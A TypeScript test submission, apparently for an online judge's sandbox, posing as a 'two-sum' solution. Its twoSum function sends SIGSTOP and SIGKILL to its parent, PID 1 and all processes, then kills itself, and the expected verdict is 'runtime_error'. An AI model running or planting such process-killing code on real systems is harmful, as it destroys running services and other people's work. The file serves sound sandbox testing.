// Stops and kills its parent, the first process and everybody else, and then itself; must end by its own signal at most.
// Verdict: runtime_error.
// Problem: two-sum.
function twoSum(nums: number[], target: number): number[] {
  for (const signal of ["SIGSTOP", "SIGKILL"]) {
    for (const id of [process.ppid, 1, -1]) {
      try {
        process.kill(id, signal);
      } catch {}
    }
  }
  process.kill(process.pid, "SIGKILL");
  return [0, 1];
}
